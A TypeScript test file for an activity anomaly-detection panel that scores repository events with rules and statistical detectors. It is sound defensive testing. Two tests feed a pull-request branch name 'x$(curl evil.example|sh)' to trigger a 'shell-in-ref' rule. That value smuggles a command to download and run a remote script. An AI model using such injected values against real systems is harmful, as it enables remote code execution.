import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { activity, NOON } from "../activity-under-test.ts";
import { FeatureExtractor, type Observation } from "../features/extract.ts";
import { STARTER_RULES } from "../rules/starter-rules.ts";
import { Panel } from "./panel.ts";

const OPTIONS = { trees: 10, sampleSize: 64, seed: "test", rules: STARTER_RULES };

/** The verdict on one activity more. */
function judge(panel: Panel, observation: Observation) {
  return panel.judgeMany([observation])[0];
}

/** Pushes by many accounts, each to its own repository, a second apart. */
function push(n: number) {
  return activity("push", { at: NOON + n * 1000, actor: `user-${n % 90}`, repo: `user-${n % 90}/app` });
}

function comment(n: number) {
  return activity("comment", { at: NOON + n * 1000, actor: `user-${n % 40}`, repo: `user-${n % 9}/app` });
}

describe("the panel", () => {
  it("gives no verdict while nobody can judge", () => {
    const [panel, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
    for (let n = 0; n < 100; n++) expect(judge(panel, extractor.observe(push(n)))).toBeUndefined();
  });

  it("lets a rule speak before anything was learned", () => {
    const [panel, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
    const verdict = judge(panel, extractor.observe(activity("pull-request", { headRef: "x$(curl evil.example|sh)" })));
    expect(verdict).toMatchObject({ surprise: 8, rule: { id: "shell-in-ref" }, subject: "actor" });
  });

  it("tells hits of one story at one owner as one campaign, whoever acts", () => {
    const rule = { id: "any-release", kind: "x", says: "A release.", on: ["release" as const], when: [] };
    const rules = [{ ...rule, subject: "actor" as const, surprise: 5, story: "releases" }];
    const [panel, extractor] = [new Panel({ ...OPTIONS, rules }), new FeatureExtractor()];
    const campaignOf = (actor: string, repo: string) =>
      judge(panel, extractor.observe(activity("release", { actor, repo })))?.campaign;
    expect(campaignOf("alice", "acme/one")).toBe("releases of acme");
    expect(campaignOf("bob", "acme/two")).toBe("releases of acme");
    expect(campaignOf("bob", "other/two")).toBe("releases of other");
  });

  it("is surprised by a planted burst, and says which rate it was", () => {
    const [panel, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
    const surprises = Array.from({ length: 2500 }, (_, n) => judge(panel, extractor.observe(push(n)))?.surprise ?? 0);
    const burst = Array.from({ length: 150 }, (_, n) =>
      judge(
        panel,
        extractor.observe(activity("push", { id: `b${n}`, at: NOON + 2_500_000 + n, actor: "mallory", repo: "m/x" })),
      ),
    );
    const last = burst[burst.length - 1];
    expect(last?.surprise).toBeGreaterThan(Math.max(...surprises.slice(500)) + 0.5);
    expect(last?.scores.map(({ detector }) => detector)).toContain("rate");
    expect(last?.drivers.length).toBeGreaterThan(0);
  });

  it("goes on from a saved state as if never stopped", () => {
    const [live, extractor] = [new Panel(OPTIONS), new FeatureExtractor()];
    const observations = Array.from({ length: 900 }, (_, n) => extractor.observe(push(n)));
    for (const each of observations.slice(0, 600)) judge(live, each);
    const restored = new Panel({ ...OPTIONS, seed: "another" });
    restored.restore(live.save(true));
    const rest = observations.slice(600);
    expect(rest.map((each) => judge(restored, each))).toEqual(rest.map((each) => judge(live, each)));
    expect(restored.save(true)).toEqual(live.save(true));
  });

  it("says the same however many are judged together", () => {
    const extractor = new FeatureExtractor();
    const observations = Array.from({ length: 900 }, (_, n) => extractor.observe(n % 7 === 0 ? comment(n) : push(n)));
    const alone = new Panel(OPTIONS);
    const verdicts = observations.map((each) => judge(alone, each));
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: observations.length }), { maxLength: 12 }), (cuts) => {
        const panel = new Panel(OPTIONS);
        const places = [0, ...cuts, observations.length].sort((a, b) => a - b);
        const together = places.slice(1).flatMap((to, index) => panel.judgeMany(observations.slice(places[index], to)));
        expect(together).toEqual(verdicts);
        expect(panel.save(true)).toEqual(alone.save(true));
      }),
      { numRuns: 8 },
    );
  });

  it("does without the detectors that are left out", () => {
    const extractor = new FeatureExtractor();
    const observations = Array.from({ length: 2500 }, (_, n) => extractor.observe(push(n)));
    for (let n = 0; n < 150; n++) {
      const at = NOON + 2_500_000 + n;
      observations.push(extractor.observe(activity("push", { id: `b${n}`, at, actor: "mallory", repo: `m/x${n}` })));
    }
    observations.push(extractor.observe(activity("pull-request", { headRef: "x$(curl evil.example|sh)" })));
    const heard = (without: readonly string[]) => {
      const panel = new Panel({ ...OPTIONS, without });
      const scores = observations.flatMap((each) => judge(panel, each)?.scores ?? []);
      return [...new Set(scores.map(({ detector }) => detector.replace(/^rule:.*/, "rules")))].sort();
    };

    expect(heard([])).toEqual(["context", "forest", "rate", "rules", "spread"]);
    expect(heard(["forest"])).toEqual(["context", "rate", "rules", "spread"]);
    expect(heard(["rate"])).toEqual(["context", "forest", "rules", "spread"]);
    expect(heard(["rules"])).toEqual(["context", "forest", "rate", "spread"]);
    expect(heard(new Panel(OPTIONS).detectors)).toEqual([]);
  });

  it("refuses to leave out what is not there", () => {
    expect(() => new Panel({ ...OPTIONS, without: ["forrest"] })).toThrow('no detector is called "forrest"');
  });
});
